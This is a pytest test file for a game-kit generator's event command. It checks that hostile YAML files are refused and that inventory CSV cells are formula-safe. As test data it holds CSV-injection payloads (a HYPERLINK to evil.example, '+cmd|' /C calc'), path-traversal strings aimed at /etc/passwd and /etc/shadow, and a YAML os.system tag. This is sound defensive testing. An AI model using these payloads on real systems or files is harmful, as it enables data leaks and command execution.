"""Hostile event files, a full disk during an event, and a formula-safe inventory (issue 35, 5).

Every file of the corpus ``tests/hostile_corpus/events/`` (named for its attack) runs through
the real command line (``tests/hostile.run_cli``): it must start no process, open nothing in
``tests/hostile_corpus/event-canary/`` (a real logo and branding folder the files point
at from outside their folder) or ``/etc``, and end either built (exit 0) or refused with
the exact located problems (exit 2) and nothing written. Most are refused while the file
is checked; the one that builds is a single table.
"""

from __future__ import annotations

import csv
import errno
import io
import os
from pathlib import Path

import pytest
from click.testing import CliRunner

from generator.cli.main import main
from generator.core.errors import OutputError
from generator.data.library import load_library
from generator.kit.eventfile import MAX_BUILDS, load_event, plan, slug
from generator.kit.eventprint import Pack, inventory_csv
from tests.hostile import run_cli
from tests.paths import ROOT

CORPUS = Path("tests") / "hostile_corpus" / "events"
"""Relative to ROOT, where the tests run, so messages name the files as a user would."""
CANARIES = (ROOT / "tests" / "hostile_corpus" / "event-canary", Path("/etc/passwd"),
            Path("/etc/shadow"))

_INSIDE = "expected a PNG or SVG inside the event file's folder"
EXPECTED: dict[str, list[str] | None] = {
    # The builds an event asks for, as a whole: located at the first field too many.
    "too-many-builds-by-tables": [
        "13:32: scenarios.6.tables: found 448 builds, expected at most 400 (448 tables and 0 "
        "extras, times 1 paper)"],
    "too-many-builds-by-papers": [
        "5:13: paper.1: found 512 builds, expected at most 400 (256 tables and 0 extras, "
        "times 2 papers)"],
    "too-many-builds-by-scenarios": [
        "16:32: scenarios.9.tables: found 410 builds, expected at most 400 (410 tables and 0 "
        "extras, times 1 paper)"],
    "too-many-builds-by-extras": [
        "6:10: extras.0: found 401 builds, expected at most 400 (394 tables and 7 extras, "
        "times 1 paper)"],
    "ten-scenarios-1280-builds": [
        "13:29: scenarios.6.tables: found 1280 builds, expected at most 400 (640 tables and 0 "
        "extras, times 2 papers)"],
    "too-many-scenarios": ["7:3: scenarios: found a list, expected at most 40 item(s)"],
    "duplicate-scenario": [
        "8:10: scenarios.1.id: found 'river-plate' again, expected each scenario once (it is "
        "scenarios.0 too)"],
    # Numbers.
    "tables-negative": ["7:31: scenarios.0.tables: found -3, expected a number of at least 1"],
    "tables-huge": [
        "7:31: scenarios.0.tables: found a whole number of 60 digits, expected at most 18 "
        "digits"],
    "tables-infinite": ["7:31: scenarios.0.tables: found '.inf', expected a finite number"],
    "seed-huge": ["6:7: seed: found 99999999999, expected a number of at most 2147483647",
                  "8:42: scenarios.0.seeds.0: found -1, expected a number of at least 0"],
    "seeds-too-few": ["7:41: scenarios.0.seeds: found 1 seed, expected one per table (3)"],
    "date-impossible": ["4:7: date: found '2026-02-30', expected a real date (YYYY-MM-DD)"],
    # Formulas where ids belong (ids reach inventory.csv); in free text they are only text.
    "formula-scenario-hyperlink": [
        "7:10: scenarios.0.id: found '=HYPERLINK(\"http://evil.example/\"&A1,...', expected "
        "text matching ^[a-z0-9][a-z0-9-]*$"],
    "formula-scenario-cmd": [
        "7:10: scenarios.0.id: found '+cmd|' /C calc'!A0', expected text matching "
        "^[a-z0-9][a-z0-9-]*$"],
    "formula-scenario-at-sum": [
        "7:10: scenarios.0.id: found '@SUM(1+1)*cmd|' /C calc'!A0', expected text matching "
        "^[a-z0-9][a-z0-9-]*$"],
    "formula-names-build": None,
    # Paths out of the event's folder.
    "logo-outside-folder": [f"6:7: logo: found '../event-canary/logo.png', {_INSIDE}"],
    "logo-absolute": [f"6:7: logo: found '/etc/passwd', {_INSIDE}"],
    "logo-dotdot-png": [
        f"6:7: logo: found '../../../../../../../../../../etc/passwd.png', {_INSIDE}"],
    "logo-nul": ["6:7: logo: found 'logo.png\\x00../../event-canary/logo.png', expected a "
                 "file name without NUL bytes"],
    "logo-symlink-out": [f"6:7: logo: found 'logo-link.png', {_INSIDE}"],
    "templates-symlink-out": [
        "6:12: templates: found 'branding-link', expected a folder beside the event file or "
        "below it"],
    "templates-etc": [
        "6:12: templates: found '/etc', expected a folder beside the event file or below it"],
    "templates-dotdot": [
        "6:12: templates: found '../event-canary/branding', expected a folder beside the "
        "event file or below it"],
    "extras-path": [
        "6:10: extras.0: found '../../../etc/passwd', expected one of tables, markers, "
        "rulers, gauges, strings"],
    # The YAML itself.
    "billion-laughs": [
        "1:1: found more than 200000 values (alias expansion?), expected a data file"],
    "deep-nesting": [
        "6:1011: found a YAML syntax error (exceeded maximum nesting depth), expected valid "
        "YAML"],
    "huge-string": [
        "5:7: name: found 'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA...', expected text of at most "
        "80 character(s)"],
    "duplicate-keys": [
        "7:34: scenarios.0.tables: found key 'tables' twice, expected each key once"],
    "python-tag": [
        "5:7: name: found YAML tag 'tag:yaml.org,2002:python/object/apply:os.system', "
        "expected plain YAML (tags that construct objects are refused)"],
    "wrong-kind": ["2:7: kind: found 'ship-class', expected one of event"],
    "paper-three": ["5:8: paper: found a list, expected at most 2 item(s)"],
}


def test_the_corpus_is_every_file_and_big_enough() -> None:
    found = sorted(p.stem for p in (ROOT / CORPUS).glob("*.yaml"))
    assert found == sorted(EXPECTED)
    assert len(found) >= 20
    # The links the symlink cases name: inside the folder by name, outside by target.
    for link in ("logo-link.png", "branding-link"):
        assert (ROOT / CORPUS / link).is_symlink()
        assert (ROOT / CORPUS / link).resolve().is_relative_to(CANARIES[0])


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_a_hostile_event_file_is_inert(name: str, tmp_path: Path,
                                       monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(ROOT)
    path = CORPUS / f"{name}.yaml"
    out = tmp_path / "out"
    expected = EXPECTED[name]
    if expected is not None:  # a check that let it through fails here, not hours later
        monkeypatch.setattr("generator.kit.event.fork_map", _refused_yet_built)
    code, _, err = run_cli(["event", str(path), "--out", str(out), "--quiet"], *CANARIES)
    if expected is None:
        assert code == 0, err
        _assert_formula_safe((out / slug(_event_name(path)) / "inventory.csv").read_bytes())
        return
    assert code == 2
    lines = err.splitlines()
    count = len(expected)
    assert lines == [f"{path}:{line}" for line in expected] + [
        f"error: {count} problem{'s' if count > 1 else ''} in the data"]
    assert not out.exists()  # nothing written, not even the output folder


def _refused_yet_built(*args: object, **kwargs: object) -> None:
    raise AssertionError("an event that should have been refused started building")


def _event_name(path: Path) -> str:
    import yaml

    return str(yaml.safe_load(path.read_text(encoding="utf-8"))["name"])


TRIGGERS = set("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
"""What a cell may not start with (OWASP's list, a line feed, and the full-width forms);
the test's own list, so that a shorter one in the code fails it."""


def _assert_formula_safe(data: bytes) -> list[list[str]]:
    """Every cell of the CSV read back: none starts like a formula unless quoted with '."""
    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert rows[0] == ["paper", "table", "scenario", "packet", "sheets", "sheet", "piece",
                       "copies"]
    for row in rows[1:]:
        for cell in row:
            assert cell.lstrip(" \u00a0\u3000")[:1] not in TRIGGERS, (cell, row)
    return rows


# --- the bound on an event's builds ---------------------------------------------------


def _event_file(tmp_path: Path, tables: list[int], extras: str = "[]",
                paper: str = "[a4]") -> Path:
    ids = ["savo-island", "second-sirte", "river-plate", "komandorski", "sunda-strait",
           "guadalcanal-battleships", "latakia-1973"]
    lines = ["kind: event", "name: Bound", "date: 2026-11-28", f"paper: {paper}",
             f"extras: {extras}", "scenarios:"]
    lines += [f"  - {{id: {ids[i]}, tables: {n}}}" for i, n in enumerate(tables)]
    path = tmp_path / "bound.yaml"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize(("tables", "extras", "paper"), [
    ([64] * 6 + [16], "[]", "[a4]"),               # 400 tables
    ([64] * 6 + [9], "[tables]", "[a4]"),          # 393 tables and 7 extras
    ([50, 50, 50, 50], "[]", "[a4, letter]"),     # 200 tables on two papers
])
def test_an_event_of_exactly_the_bound_is_accepted(tmp_path: Path, tables: list[int],
                                                   extras: str, paper: str) -> None:
    # Checked only: building 400 tables is not what this test is for.
    event, _, _ = load_event(_event_file(tmp_path, tables, extras, paper), load_library([]))
    assert len(list(plan(event))) == MAX_BUILDS  # the bound itself, not one build below it


def test_one_build_over_the_bound_is_refused_at_the_field_that_adds_it(
        tmp_path: Path) -> None:
    from generator.core.errors import DataError

    path = _event_file(tmp_path, [64] * 6 + [17])
    with pytest.raises(DataError) as raised:
        load_event(path, load_library([]))
    assert [str(p) for p in raised.value.problems] == [
        f"{path}:13:32: scenarios.6.tables: found 401 builds, expected at most 400 (401 "
        "tables and 0 extras, times 1 paper)"]


def test_the_bound_is_stated_where_events_are_documented() -> None:
    clubs = (ROOT / "docs" / "clubs.md").read_text(encoding="utf-8")
    assert f"at most {MAX_BUILDS} builds" in clubs


# --- a full disk while the event is written ----------------------------------------------

ONE_TABLE = """\
kind: event
name: Disk Cup
date: 2026-11-28
paper: [a4]
combined: true
scenarios:
  - {id: river-plate, tables: 1}
"""


def _fail_writing(monkeypatch: pytest.MonkeyPatch, name: str, code: int) -> None:
    """Writing the file called ``name`` fails with ``code`` (after some bytes went out)."""
    from generator.pages import pdfstream

    error = OSError(code, os.strerror(code))
    write_bytes, write_text = Path.write_bytes, Path.write_text
    emit = pdfstream.StreamedPdf._emit

    def bytes_(self: Path, data: bytes) -> int:  # type: ignore[override]
        if self.name == name:
            write_bytes(self, data[:100])
            raise error
        return write_bytes(self, data)

    def text_(self: Path, data: str, *args: object, **kwargs: object) -> int:
        if self.name == name:
            raise error
        return write_text(self, data, *args, **kwargs)  # type: ignore[arg-type]

    def emit_(self: pdfstream.StreamedPdf, data: bytes) -> None:
        if Path(self._file.name).name == name and self._at > 10_000:
            raise error
        emit(self, data)

    monkeypatch.setattr(Path, "write_bytes", bytes_)
    monkeypatch.setattr(Path, "write_text", text_)
    monkeypatch.setattr(pdfstream.StreamedPdf, "_emit", emit_)


@pytest.mark.parametrize(("shown", "code", "out_exists"), [
    ("a4/table-01-river-plate/german.pdf", errno.ENOSPC, False),   # a table's packet
    ("a4/table-01-river-plate.pdf", errno.EDQUOT, True),            # a combined pack
    ("a4/print-shop.pdf", errno.ENOSPC, True),                      # the bundle, midway
    ("inventory.csv", errno.EIO, True),
    ("manifest.json", errno.ENOSPC, False),
])
def test_a_full_disk_is_an_output_error_and_leaves_nothing(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, shown: str, code: int,
        out_exists: bool) -> None:
    event = tmp_path / "disk.yaml"
    event.write_text(ONE_TABLE, encoding="utf-8")
    out = tmp_path / "out"
    if out_exists:
        out.mkdir()
    monkeypatch.setenv("QUARTERDECK_JOBS", "1")
    _fail_writing(monkeypatch, Path(shown).name, code)
    result = CliRunner().invoke(main, ["event", str(event), "--out", str(out), "-q"])
    # As ``build`` reports a failed write: one line, OutputError's exit status.
    assert result.exit_code == OutputError.exit_code == 1, result.output
    assert result.stderr == (f"error: cannot write {out}/disk-cup/{shown}: "
                             f"{os.strerror(code)}\n")
    if out_exists:
        assert list(out.iterdir()) == []  # no staging folder, no half an event
    else:
        assert not out.exists()


# --- inventory.csv: no cell a spreadsheet runs -------------------------------------------

HOSTILE_CELLS = ["=HYPERLINK(\"http://evil.example/\",\"x\")", "+cmd|' /C calc'!A0",
                 "-2+3", "@SUM(1+1)", "\tTAB", "\rCR", "\nLF", "  =1+1", "\u3000=1",
                 "\uff1dSUM(1)", "\uff0b1", "\uff0d1", "\uff20SUM(1)"]


def test_every_inventory_column_is_formula_safe() -> None:
    # Every column holds hostile text once, the others plain (any column may carry text
    # a user's data chose, whatever its heading says today).
    packs = []
    for cell in HOSTILE_CELLS:
        packs.append(Pack(cell, "t/x.pdf", "", 1, cell, 3, cell, [],  # type: ignore[arg-type]
                          [(cell, 1, cell, 2)]))
    rows = _assert_formula_safe(inventory_csv(packs))
    assert rows[1:] == [[f"'{c}", "3", f"'{c}", f"'{c}", f"'{c}", "1", f"'{c}", "2"]
                        for c in HOSTILE_CELLS]
    plain = Pack("a4", "t/x.pdf", "", 1, "river-plate", 0, "Ajax - 2", [],  # type: ignore[arg-type]
                 [("Counters", 1, "1-2 hit marker", 4)])
    assert inventory_csv([plain]).decode("utf-8").split("\r\n")[1] == (
        "a4,,river-plate,Ajax - 2,Counters,1,1-2 hit marker,4")


def test_side_and_sheet_names_from_user_data_are_neutralised(tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch,
                                                             ) -> None:
    data = tmp_path / "data"
    data.mkdir()
    text = (ROOT / "shipdata" / "surface_action" / "scenarios" / "river-plate.yaml").read_text(
        encoding="utf-8")
    text = text.replace("    name: Admiral Graf Spee\n",
                        "    name: '=HYPERLINK(\"http://evil.example/\",\"x\")'\n")
    text = text.replace("    name: Force G\n", "    name: \"+cmd|' /C calc'!A0\"\n")
    (data / "river-plate.yaml").write_text(text, encoding="utf-8")
    event = tmp_path / "csv.yaml"
    event.write_text(ONE_TABLE.replace("combined: true\n", ""), encoding="utf-8")
    out = tmp_path / "out"
    code, _, err = run_cli(["event", str(event), "--data", str(data), "--out", str(out),
                            "-q"], *CANARIES)
    assert code == 0, err
    rows = _assert_formula_safe((out / "disk-cup" / "inventory.csv").read_bytes())
    sides = {row[3] for row in rows[1:]}
    assert sides == {"'=HYPERLINK(\"http://evil.example/\",\"x\")", "'+cmd|' /C calc'!A0",
                     "Referee"}


def test_a_templates_folder_that_loops_is_a_located_error(tmp_path: Path) -> None:
    """``templates: loop`` where ``loop`` links to itself crashed (RuntimeError) before."""
    (tmp_path / "loop").symlink_to("loop")
    event = tmp_path / "event.yaml"
    text = (ROOT / "examples" / "convention.yaml").read_text(encoding="utf-8")
    event.write_text(text.replace("templates: branding", "templates: loop"),
                     encoding="utf-8")
    line = next(n for n, row in enumerate(event.read_text().splitlines(), 1)
                if row.startswith("templates:"))
    code, _, err = run_cli(["event", str(event), "--out", str(tmp_path / "out")])
    assert code == 2
    assert err.splitlines()[0] == (
        f"{event}:{line}:12: templates: found 'loop', expected a folder, not a symbolic link "
        "that loops (or a path that cannot be resolved)")
    assert not (tmp_path / "out").exists()
